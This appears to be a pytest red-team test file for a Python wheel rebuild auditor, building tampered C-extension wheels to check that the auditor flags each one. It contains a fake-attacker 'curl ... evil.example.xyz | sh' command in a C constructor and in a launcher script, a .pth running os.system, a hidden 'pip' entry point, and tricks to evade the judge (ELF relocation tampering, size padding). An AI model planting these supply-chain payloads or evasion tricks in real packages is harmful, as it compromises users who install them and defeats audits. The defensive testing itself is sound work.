"""Red-team PoCs where the publisher's sdist decides what the rebuild is (issue 45 follow-up), end to end in the
container. Small C-extension releases built on this host (as their publisher would), one per trick; each published
wheel carries something that runs once installed; each must be `differs`, class code, naming the member. The
assertions state what the judge SHOULD say: they fail where the attack gets through (see the report).

- atkfallback: setup.py builds its extension only under cibuildwheel (CIBUILDWHEEL=1); the rebuild is pure, the
  published module (a constructor running system()) is "a compiled variant not built here";
- atkunread: setup.py's build_ext turns one weak GLOB_DAT relocation of the module it builds into R_X86_64_NONE
  aimed at DT_STRTAB (ld.so skips it; the module loads and works): the rebuild's module is unreadable to the judge,
  the published one (a system() constructor) is "not reproduced";
- atkbig: setup.py pads the module it builds past 128 MiB (bytes after the ELF file): the small published module
  (a system() constructor) is "not judged: read-limit";
- atkbase: an ordinary release with a launcher template tools/atkbase-run.in and one console script; its tampered
  wheels add NAME.data/data/bin/atkbase-run running `curl | sh` (configured-file), and a console script `pip`
  hidden behind a comment line that importlib.metadata splits at a form feed;
- atkfail: the build fails outside cibuildwheel; the published wheel's module has a system() constructor;
- atkdotted: a module that reports to 10.0.0.1 through Python's socket module (PyImport_ImportModule,
  PyObject_CallMethod, on both sides): published with 6.6.6.6 (dotted-number-string sets it aside: no libc network
  import).
"""

from __future__ import annotations

import inspect
import json
import os
import textwrap
from datetime import datetime, timezone
from pathlib import Path


from tests.test_excuse_attacks import _module
from tests.conftest import PYPI
from tests.fixtureindex import build_c_project, lock_line, make_project, retag_wheel
from tests.test_attack_inprocess import GETS_THROUGH, neuter_one_relocation

NOW = datetime.now(timezone.utc).replace(microsecond=0)
MANYLINUX = "manylinux_2_17_x86_64.manylinux2014_x86_64"
DOTTED = r"""#define PY_SSIZE_T_CLEAN
#include <Python.h>
static const char *volatile collector = "10.0.0.1";
static PyObject *report(PyObject *self, PyObject *arg) {
  PyObject *socket = PyImport_ImportModule("socket");
  if (!socket) return NULL;
  PyObject *s = PyObject_CallMethod(socket, "create_connection", "((si))", collector, 9000);
  Py_DECREF(socket);
  return s; }
static PyMethodDef methods[] = {{"report", report, METH_O, "report"}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "_speed", NULL, -1, methods};
PyMODINIT_FUNC PyInit__speed(void) { return PyModule_Create(&mod); }
"""
C_SOURCE = r"""#define PY_SSIZE_T_CLEAN
#include <Python.h>
static PyObject *twice(PyObject *self, PyObject *arg) { return PyNumber_Add(arg, arg); }
static PyMethodDef methods[] = {{"twice", twice, METH_O, "twice"}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "_speed", NULL, -1, methods};
PyMODINIT_FUNC PyInit__speed(void) { return PyModule_Create(&mod); }
"""
CONSTRUCTOR = r"""
#include <stdlib.h>
__attribute__((constructor)) static void warm_cache(void) {
  if (getenv("ATK_NEVER")) system("curl -s https://evil.example.xyz/p | sh"); }
"""
ELFPATCH = "import struct\n\n\n" + inspect.getsource(neuter_one_relocation)

SETUP = {
    "atkfallback": """\
        import os
        from setuptools import Extension, setup
        # the speedups are built for the release wheels (cibuildwheel); a source install stays pure Python
        ext = [Extension("atkfallback._speed", ["atkfallback/_speed.c"])] if os.environ.get("CIBUILDWHEEL") else []
        setup(ext_modules=ext)
        """,
    "atkunread": """\
        from setuptools import Extension, setup
        from setuptools.command.build_ext import build_ext
        exec(compile(open("elfpatch.py").read(), "elfpatch.py", "exec"))

        class tidy_build_ext(build_ext):
            def build_extension(self, ext):
                super().build_extension(ext)
                neuter_one_relocation(self.get_ext_fullpath(ext.name))

        setup(ext_modules=[Extension("atkunread._speed", ["atkunread/_speed.c"])], cmdclass={"build_ext": tidy_build_ext})
        """,
    "atkbig": """\
        import os
        from setuptools import Extension, setup
        from setuptools.command.build_ext import build_ext

        class big_build_ext(build_ext):
            def build_extension(self, ext):
                super().build_extension(ext)
                block = os.urandom(1 << 20)
                with open(self.get_ext_fullpath(ext.name), "ab") as f:  # "embedded tables": bytes after the ELF file
                    for _ in range(130):
                        f.write(block)

        setup(ext_modules=[Extension("atkbig._speed", ["atkbig/_speed.c"])], cmdclass={"build_ext": big_build_ext})
        """,
    "atkbase": """\
        from setuptools import Extension, setup
        setup(ext_modules=[Extension("atkbase._speed", ["atkbase/_speed.c"])],
              entry_points={"console_scripts": ["atkbase-tool = atkbase:hello"]})
        """,
    "atkdotted": """\
        from setuptools import Extension, setup
        setup(ext_modules=[Extension("atkdotted._speed", ["atkdotted/_speed.c"])])
        """,
    "atkfail": """\
        import os
        from setuptools import Extension, setup
        if not os.environ.get("CIBUILDWHEEL"):
            raise SystemExit("error: this release builds only under cibuildwheel")
        setup(ext_modules=[Extension("atkfail._speed", ["atkfail/_speed.c"])])
        """,
}


def _project(root: Path, name: str) -> Path:
    import setuptools

    extra = {f"{name}/_speed.c": DOTTED if name == "atkdotted" else C_SOURCE, "tools/atkbase-run.in": '#!/bin/sh\nexec @PYTHON@ -m atkbase "$@"\n',
             "MANIFEST.in": "recursive-include tools *.in\ninclude elfpatch.py\n"}
    if name == "atkunread":
        extra["elfpatch.py"] = ELFPATCH
    proj = make_project(root, name, "1.0", setup_py=textwrap.dedent(SETUP[name]), extra_files=extra)
    (proj / "pyproject.toml").write_text(
        f'[build-system]\nrequires = ["setuptools=={setuptools.__version__}"]\nbuild-backend = "setuptools.build_meta"\n\n'
        f'[project]\nname = "{name}"\nversion = "1.0"\ndescription = "fixture"\nrequires-python = ">=3.8"\n'
        + ('dynamic = ["scripts"]\n' if name == "atkbase" else "")
        + f'\n[tool.setuptools]\npackages = ["{name}"]\n')
    return proj


@GETS_THROUGH
def test_attack_publisher_controls_the_rebuild(tmp_path, index, auditor, container_backend, monkeypatch):
    monkeypatch.setenv("CIBUILDWHEEL", "1")  # the publisher's release build
    evil = _module(tmp_path, "evil", C_SOURCE + CONSTRUCTOR)
    out = tmp_path / "dist"
    lock = ""
    expect = {}  # wheel file name -> (label, the member that must differ)
    dotted = _module(tmp_path, "dotted", DOTTED.replace("10.0.0.1", "6.6.6.6"))
    only = os.environ.get("ATK_ONLY", "").split(",")
    for name in ("atkfallback", "atkunread", "atkbig", "atkfail", "atkbase", "atkdotted"):
        if only != [""] and name not in only:
            continue
        sdist, wheel = build_c_project(_project(tmp_path / "src" / name, name), tmp_path / "host" / name)
        so = f"{name}/_speed.cpython-311-x86_64-linux-gnu.so"
        files = [sdist]
        if name == "atkbase":
            launcher = b'#!/bin/sh\nexec python3 -m atkbase; curl -s https://evil.example.xyz/p | sh; exec python3 -m atkbase "$@"\n'
            data_bin = f"{name}-1.0.data/data/bin/atkbase-run"
            honest = retag_wheel(wheel, out, MANYLINUX)
            w1 = retag_wheel(wheel, out, "manylinux_2_28_x86_64", lambda m: m.__setitem__(data_bin, launcher))
            ep = f"{name}-1.0.dist-info/entry_points.txt"

            def hide_pip(m):
                m[ep] = m[ep].rstrip(b"\n") + b"\n#\x0cpip = atkbase:hello\n"
            w2 = retag_wheel(wheel, out, "manylinux_2_31_x86_64", hide_pip)
            expect[w1.name] = ("configured-bin-launcher", data_bin)
            expect[w2.name] = ("entry-point-formfeed", ep)
            expect[honest.name] = ("honest", None)
            files += [honest, w1, w2]
        else:
            payload = dotted if name == "atkdotted" else evil
            w = retag_wheel(wheel, out, MANYLINUX, lambda m, so=so, payload=payload: m.__setitem__(so, payload))
            expect[w.name] = (name, so)
            files.append(w)
            if name == "atkbig":  # the same, with an added .pth beside: the whole release goes unjudged
                pth = retag_wheel(wheel, out, "manylinux_2_28_x86_64", lambda m, so=so: m.update(
                    {so: evil, "zz_atkbig.pth": b"import os; os.system('id')\n"}))
                expect[pth.name] = ("atkbig+pth", "zz_atkbig.pth")
                files.append(pth)
        lock += lock_line(name, "1.0", *(index.add(name, f, NOW) for f in files))
    (tmp_path / "requirements.txt").write_text(f"--index-url {index.url}\n" + lock)
    monkeypatch.delenv("CIBUILDWHEEL")
    r = auditor("check", str(tmp_path / "requirements.txt"), "--backend", container_backend, "--build-index-url", PYPI,
                "--python", "3.11")
    assert "Traceback" not in r.stderr, r.stderr[-3000:]
    Path("/tmp/attack/results_publisher_full.json").write_text((r.report_dir / "results.json").read_text())
    seen, failures = {}, []
    for p in r.results["packages"]:
        if not p["wheels"]:
            seen[p["name"] + " (release)"] = {"verdict": p["verdict"], "reason": p["reason"]}
            failures.append(f"{p['name']}: the release, no wheel judged: {p['verdict']}: {p['reason']}")
        for w in p["wheels"]:
            if w["filename"] not in expect:
                continue
            label, member = expect[w["filename"]]
            seen[label] = {"verdict": w["verdict"], "reason": w["reason"], "check": w["check"],
                           "differences": w["differences"], "not_reproduced": w.get("not_reproduced"),
                           "normalizations": w.get("normalizations"), "tool_steps": w.get("tool_steps")}
            if member is None:
                continue
            hit = [d for d in w["differences"] if d["path"] == member and d["cls"] == "code"]
            if w["verdict"] != "differs" or not hit:
                failures.append(f"{label}: {w['verdict']}: {w['reason']}")
    seen["exit code"] = r.code
    Path("/tmp/attack/results_publisher.json").write_text(json.dumps(seen, indent=1))
    assert not failures, "\n".join(failures)
